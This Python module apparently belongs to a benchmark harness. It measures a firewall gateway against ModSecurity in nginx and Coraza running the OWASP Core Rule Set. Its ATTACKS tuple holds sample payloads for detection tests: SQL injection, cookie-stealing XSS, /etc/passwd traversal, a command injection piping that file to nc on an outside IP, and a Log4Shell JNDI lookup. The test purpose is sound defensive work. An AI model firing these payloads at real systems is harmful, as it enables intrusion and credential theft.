"""The Core Rule Set for the rows that look for attacks: where it is, what is sent, and the two peers that run it too.

All run the same rules at the first level, on the request and not on the answer, and write no log. The rows with attacks
and with prose let through what is found (detection alone): the load generator takes no other answer than a 200, and
some of the prose is taken for attacks.
"""

from __future__ import annotations

import functools
import json
import os
import random
import re
import subprocess
import sys
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from bench.machine import ROOT
from bench.process import BenchError
from bench.subjects import Peer

SENTENCES = (
    "The order will be sent to our office in town as soon as it has been paid for, won't it?",
    "Please let me know whether the blue ones are there again by the end of next week.",
    "My sister wants to have two of them, and I'd take the larger one; select whichever you have.",
    "Leave it with the neighbours (second floor, O'Brien) & ring twice - thanks!",
)
ATTACKS = (
    "id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20",
    "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "file=../../../../etc/passwd",
    "cmd=;cat%20/etc/passwd%7Cnc%20192.0.2.1%204444",
    "x=$%7Bjndi:ldap://192.0.2.1/a%7D",
)
LINES = {"post": 17, "post-fresh": 17, "post-100k": 1400, "post-100k-fresh": 1400, "prose": 12}
"""How many lines an order has."""

FRESH = 4096 * LINES["post"]
"""How many lines the different orders have that are sent in turn: some 80,000 texts, of which few are kept as known."""

LOOKS = ("crs", "native", "both")
"""What looks: the Core Rule Set, the gate's own detectors, or both."""

BROWSER = {
    "Host": "shop.example.com",
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Accept": "application/json",
    "Accept-Language": "en-US,en;q=0.5",
    "Accept-Encoding": "gzip, deflate, br",
}
ENGINE = """\
SecRuleEngine @MODE@
SecRequestBodyLimit 13107200
"""
"""What the gate is told by its own configuration."""

SETTINGS = """\
SecRequestBodyAccess On
SecResponseBodyAccess Off
SecAuditEngine Off
SecRule REQUEST_HEADERS:Content-Type "^application/json" \
 "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
"""
"""Before the rules."""


@functools.cache
def rules() -> Path:
    """The folder of the rules, fetched and held by their checksum as for the tests."""
    return called("-m", "conformance.crs.module")


@functools.cache
def suite(name: str) -> Path:
    """The folder of a peer's program."""
    return ran(str(ROOT / "scripts/conformance-suites.sh"), name)


def called(*words: str) -> Path:
    """A path that one of the tests' modules prints."""
    return ran(sys.executable, *words, env={**os.environ, "PYTHONPATH": str(ROOT / "tests")})


def ran(*command: str, env: Mapping[str, str] | None = None) -> Path:
    """A path that a program prints."""
    done = subprocess.run(command, capture_output=True, text=True, check=False, env=env)
    if done.returncode:
        raise BenchError(f"{' '.join(command)}: {done.stderr.strip()[-300:]}")
    return Path(done.stdout.strip())


def is_waf(variant: str) -> bool:
    """Whether a row looks for attacks."""
    return looks(variant) in LOOKS


def looks(variant: str) -> str:
    """What looks in a row: the first word of its name."""
    return variant.partition("-")[0]


def sent(variant: str) -> str:
    """What is sent in a row: the rest of its name."""
    return variant.partition("-")[2]


def mode(variant: str) -> str:
    """How the engine runs."""
    return "On" if enforced(variant) else "DetectionOnly"


def enforced(variant: str) -> bool:
    """Whether what is found is refused: attacks are let through, and so is prose that level 1 takes for one."""
    return sent(variant) not in ("attack", "prose")


def order(lines: int, prose: bool) -> bytes:
    """An order in JSON: the same each time."""
    chance = random.Random(lines)  # noqa: S311 -- The same each time is what is wanted.

    def line(number: int) -> dict[str, object]:
        note = {"note": chance.choice(SENTENCES)} if prose else {}
        return {
            "product": f"prod-{number:05}",
            "quantity": chance.randrange(1, 9),
            "price": 19.95,
            "gift": False,
            **note,
        }

    customer = {"id": "c-1017", "name": "Ada Example", "city": "Springfield", "country": "DE"}
    return json.dumps({"customer": customer, "lines": [line(number) for number in range(lines)]}).encode()


def fresh_order(seed: int, lines: int) -> bytes:
    """An order of so many lines, whose texts no other order has."""
    chance = random.Random(seed)  # noqa: S311 -- The same each time is what is wanted.

    def name(syllables: int) -> str:
        pairs = [chance.choice("bdfgklmnprtvz") + chance.choice("aeiou") for _ in range(syllables)]
        return "".join(pairs).title()

    def line() -> dict[str, object]:
        product = f"prod-{chance.randrange(10**5):05}"
        return {"product": product, "quantity": chance.randrange(1, 9), "price": 19.95, "gift": False}

    customer = {"id": f"c-{seed:04}", "name": f"{name(3)} {name(2)}", "city": name(5), "country": "DE"}
    return json.dumps({"customer": customer, "lines": [line() for _ in range(lines)]}).encode()


def requests(variant: str) -> bytes:
    """The requests of a row, one after the other."""
    what = sent(variant)
    if what == "get":
        return request("GET", "/orders/1017?expand=lines&page=2")
    if what == "attack":
        return b"".join(request("GET", f"/orders/1017?{query}") for query in ATTACKS)
    if what.endswith("-fresh"):
        lines = LINES[what]
        return b"".join(request("POST", "/orders", fresh_order(seed, lines)) for seed in range(FRESH // lines))
    return request("POST", "/orders", order(LINES[what], what == "prose"))


def request(method: str, target: str, body: bytes | None = None) -> bytes:
    """One request, as a browser sends it."""
    fields = dict(BROWSER)
    if body is not None:
        fields |= {"Content-Type": "application/json", "Content-Length": str(len(body))}
    lines = [f"{method} {target} HTTP/1.1", *(f"{name}: {value}" for name, value in fields.items()), "", ""]
    return "\r\n".join(lines).encode() + (body or b"")


def directives(folder: Path, variant: str) -> Path:
    """The rules with settings before them, as the peers read them; blank lines are what ModSecurity 3.0.9 wants."""
    source = rules() / "rules"
    copies = folder / "crs"
    copies.mkdir(exist_ok=True)
    for file in [*(source / "@owasp_crs").iterdir(), source / "@crs-setup.conf.example"]:
        content = file.read_bytes()
        if file.suffix in (".conf", ".example"):
            content = re.sub(rb"(?<!\\)\n(?=[ \t]*Sec[A-Z])", b"\n\n", content)
        (copies / file.name.removeprefix("@")).write_bytes(content)
    found = folder / "rules.conf"
    settings = ENGINE.replace("@MODE@", mode(variant)) + SETTINGS
    found.write_text(f"{settings}\nInclude {copies}/crs-setup.conf.example\nInclude {copies}/*.conf\n")
    return found


def rule_set() -> dict[str, object]:
    """The same for a bundle of the gate's."""
    source = rules() / "rules"
    files = {
        "settings.conf": SETTINGS,
        "setup.conf": (source / "@crs-setup.conf.example").read_text(encoding="utf-8"),
    }
    files |= {file.name: file.read_text(encoding="utf-8") for file in sorted((source / "@owasp_crs").iterdir())}
    entries = [name for name in files if name.endswith(".conf")]
    return {
        "name": "core",
        "files": [{"name": name, "text": text} for name, text in files.items()],
        "entries": entries,
        "span": {"file": 0, "line": 1, "column": 1},
    }


def policy(variant: str) -> dict[str, object]:
    """The gate's `waf`."""
    which = looks(variant)
    return {
        "set": None if which == "native" else 0,
        "native": which != "crs",
        "overrule": which == "both",
        "variables": {},
        "threshold": 5,
        "exclude": [],
        "inspect_bytes": 8 << 20,
        "longer": "refuse",
        "answers": None,
        "scan": None,
    }


@dataclass(frozen=True)
class Guarded(Peer):
    """A peer whose program or libraries a script installs."""

    suite: str = ""

    def path(self) -> str:
        """Where the program is."""
        return str(suite(self.suite) / self.program) if self.suite == self.name == "coraza" else super().path()

    def version(self) -> str:
        """Of what looks for attacks, and the rules'."""
        folder = suite(self.suite)
        if self.name == "coraza":
            modules = (ROOT / "tests/support/coraza/go.mod").read_text()
            found = re.search(r"coraza/v3 v([\d.]+)", modules)
        else:
            found = re.search(r"modsecurity\.so\.(\d+\.\d+\.\d+)", " ".join(map(str, folder.rglob("*.so.*"))))
        if found is None:
            raise BenchError(f"{folder} names no version")
        return f"{found[1]}, rules {rules().name.removeprefix('v')}"

    def words(self, folder: Path, variant: str) -> Mapping[str, str]:
        """What its templates want beside what all do."""
        return {"RULES": str(directives(folder, variant)), "SUITE": str(suite(self.suite))}


def guarded() -> list[Peer]:
    """ModSecurity in nginx, and a Go proxy with Coraza."""
    script = "scripts/conformance-suites.sh installs it"
    return [
        Guarded(
            "modsecurity",
            "nginx",
            ("-v",),
            ("-p", "@DIR@", "-e", "stderr", "-c", "@DIR@/nginx.conf"),
            script,
            env={"LD_LIBRARY_PATH": "@SUITE@/usr/lib/x86_64-linux-gnu"},
            suite="modsecurity",
        ),
        Guarded(
            "coraza",
            "coraza-proxy",
            (),
            ("-listen", "@LISTEN@", "-origin", "@ORIGIN@", "-rules", "@RULES@"),
            script,
            env={"GOMAXPROCS": "1"},
            suite="coraza",
        ),
    ]
